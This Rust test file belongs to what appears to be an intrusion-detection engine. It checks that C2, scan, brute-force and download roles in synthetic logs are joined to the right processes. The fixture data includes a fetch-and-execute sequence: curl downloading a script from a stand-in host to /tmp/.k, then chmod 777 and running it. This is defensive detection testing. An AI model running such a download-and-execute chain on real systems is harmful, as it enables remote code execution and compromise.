//! Connections of the wire and of hosts' own sensors, beside processes: which role, of which process, joined how.
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod common;

use std::fmt::Write as _;

use common::Run;
use ringleader_engine::collect::CollectConfig;
use ringleader_model::findings::{JoinedBy, NetworkRoleRow};

const START: i64 = 1_572_855_600;

fn uuid(n: usize) -> String {
    format!("5d83b26b-0000-4a0a-9267-12000000{n:04}")
}

fn sas(topic: &str, host: usize, time: i64, more: serde_json::Value) -> String {
    let mut row = serde_json::json!({
        "__topic__": topic, "__time__": time.to_string(), "uuid": uuid(host), "ip": format!("192.168.0.{host}"),
    });
    row.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    format!("{row}\n")
}

fn process(host: usize, time: i64, pid: &str, path: &str, cmd: &str, ppid: &str, parent: &str) -> String {
    let name = |path: &str| path.rsplit('/').next().unwrap().to_owned();
    let more = serde_json::json!({
        "cmdline": cmd, "username": "root", "pid": pid, "filename": name(path), "filepath": path,
        "ppid": ppid, "pfilename": name(parent), "pfilepath": parent,
    });
    sas("aegis-log-process", host, START + time, more)
}

fn connection(host: usize, time: i64, pid: &str, path: &str, to: (&str, u16)) -> String {
    let more = serde_json::json!({
        "src_ip": format!("192.168.0.{host}"), "src_port": "41897", "dst_ip": to.0, "dst_port": to.1.to_string(),
        "dir": "out", "proto": "tcp", "status": "1", "proc_name": path.rsplit('/').next(), "proc_path": path, "pid": pid,
    });
    sas("aegis-log-network", host, START + time, more)
}

/// Zeek's `conn.log`, as JSON.
fn conn(src: &str, time: i64, to: (&str, u16), bytes: (u64, u64), nth: usize) -> String {
    let state = if bytes.1 > 0 { "SF" } else { "S0" };
    let row = serde_json::json!({
        "ts": START + time, "uid": format!("C{nth:07}"), "id.orig_h": src, "id.orig_p": 40_000 + nth % 20_000,
        "id.resp_h": to.0, "id.resp_p": to.1, "proto": "tcp", "conn_state": state,
        "orig_bytes": bytes.0, "resp_bytes": bytes.1, "local_orig": true,
    });
    format!("{row}\n")
}

/// Hosts 3 (taken), 4 and 5 (quiet), and what a sensor on the wire saw.
fn logs() -> (String, String) {
    let mut hosts = String::new();
    for (time, pid, path, cmd, ppid, parent) in [
        (0, "3000", "/bin/bash", "bash", "2999", "/usr/sbin/sshd"),
        (5, "3010", "/usr/bin/curl", "curl -s http://203.0.113.7/x.sh -o /tmp/.k", "3000", "/bin/bash"),
        (7, "3020", "/bin/chmod", "chmod 777 /tmp/.k", "3000", "/bin/bash"),
        (9, "3030", "/tmp/.k", "/tmp/.k", "3000", "/bin/bash"),
    ] {
        hosts += &process(3, time, pid, path, cmd, ppid, parent);
    }
    hosts += &connection(3, 6, "3010", "/usr/bin/curl", ("203.0.113.7", 80));
    hosts += &connection(3, 20, "3030", "/tmp/.k", ("203.0.113.9", 8443));
    for host in [4, 5] {
        hosts += &process(host, 0, "2000", "/usr/bin/python3", "python3 /opt/app/main.py", "1", "/sbin/init");
    }
    let mut wire = String::new();
    let mut nth = 0;
    let mut call = |src: &str, time, to: (&str, u16), bytes| {
        nth += 1;
        wire += &conn(src, time, to, bytes, nth);
    };
    for n in 0..40 {
        // The intruder's check-ins; the fleet's telemetry; a quiet host's own habit.
        call("192.168.0.3", 20 + n * 60, ("203.0.113.9", 8443), (300, 200));
        for host in [3, 4, 5] {
            call(&format!("192.168.0.{host}"), n * 60 + host, ("198.51.100.80", 443), (900, 300));
        }
        call("192.168.0.4", n * 60, ("198.51.100.99", 443), (900, 300));
    }
    for n in 1..120 {
        call("192.168.0.3", 300 + n / 20, (&*format!("198.51.100.{n}"), 23), (0, 0));
    }
    for n in 0..60 {
        call("192.168.0.5", n / 3, ("192.0.2.44", 22), (1_500, 2_000));
    }
    // What the taken host fetched, as seen in front of its NAT.
    call("198.51.100.200", 6, ("203.0.113.7", 80), (200, 90_000));
    (hosts, wire)
}

fn run_of(pieces: usize, threads: usize) -> Run {
    let (hosts, wire) = logs();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("hosts.json"), hosts).unwrap();
    let lines: Vec<&str> = wire.lines().collect();
    for (n, piece) in lines.chunks(lines.len().div_ceil(pieces)).enumerate() {
        let mut text = String::new();
        piece.iter().for_each(|it| _ = writeln!(text, "{it}"));
        std::fs::write(dir.path().join(format!("conn{n}.log")), text).unwrap();
    }
    // The sensor's name is a part of an event's name.
    let collect = CollectConfig { host: Some("sensor".to_owned()), ..common::collect_config(threads, 64 << 20) };
    common::run_config(&[dir.path().to_owned()], collect, true)
}

fn told(run: &Run, role: &str) -> Vec<(String, Option<String>, JoinedBy, Option<String>)> {
    let rows = run.findings.network_roles.iter().filter(|it| &*it.role == role && &*it.kind != "alert");
    let text = |it: &Option<ringleader_model::findings::Text>| it.as_deref().map(str::to_owned);
    rows.map(|it| (it.host.to_string(), text(&it.peer), it.joined_by, text(&it.file_path))).collect()
}

#[test]
fn each_role_is_joined_to_its_process_as_well_as_the_logs_allow() {
    let run = run_of(1, 2);
    let all = format!("{:#?}", run.findings.network_roles);
    let some = |it: &str| Some(it.to_owned());
    assert_eq!(
        told(&run, "c2"),
        [(uuid(3), some("203.0.113.9:8443"), JoinedBy::FiveTuple, some("/tmp/.k"))],
        "not the fleet's telemetry, nor what a quiet host does: {all}"
    );
    assert_eq!(told(&run, "scan"), [(uuid(3), None, JoinedBy::Address, None)], "{all}");
    assert_eq!(told(&run, "brute_force"), [(uuid(5), some("192.0.2.44:22"), JoinedBy::Address, None)], "{all}");
    let fetched = told(&run, "download_source");
    let curl = |joined| (uuid(3), some("203.0.113.7:80"), joined, some("/usr/bin/curl"));
    assert!(fetched.contains(&curl(JoinedBy::Process)) && fetched.contains(&curl(JoinedBy::Indicator)), "{all}");
    let behind: Vec<&NetworkRoleRow> = run.findings.network_roles.iter().filter(|it| it.note.is_some()).collect();
    assert!(behind.iter().any(|it| it.note.as_deref().unwrap().contains("198.51.100.200")), "{all}");
}

#[test]
fn every_role_has_evidence_that_quotes_the_record() {
    let run = run_of(1, 2);
    assert!(!run.findings.network_roles.is_empty());
    for row in &run.findings.network_roles {
        assert!(!row.evidence_ids.is_empty(), "{row:#?}");
        for id in &row.evidence_ids {
            let evidence = run.findings.evidence.iter().find(|it| it.evidence_id == *id).unwrap();
            let quoted = evidence.excerpt.as_deref().unwrap();
            assert!(quoted.contains("id.orig_h") || quoted.contains("aegis-log"), "{evidence:#?}");
        }
    }
    // The role is the gang's, and its node's.
    let gang = &run.findings.gangs[0];
    assert!(gang.what.network_roles.iter().any(|it| &*it.role == "c2"), "{:#?}", gang.what);
    let node = |it: &&ringleader_model::findings::Node| it.template.contains("/tmp/.k") && !it.template.contains(' ');
    let nodes = run.findings.campaigns.iter().flat_map(|it| &it.nodes);
    assert!(nodes.filter(node).any(|it| it.network_roles.iter().any(|it| &**it == "c2")));
}

#[test]
fn the_split_does_not_matter() {
    let roles = |run: Run| run.findings.network_roles;
    let whole = roles(run_of(1, 1));
    for (pieces, threads) in [(1, 2), (3, 2), (7, 1)] {
        assert_eq!(roles(run_of(pieces, threads)), whole, "{pieces} pieces, {threads} threads");
    }
}
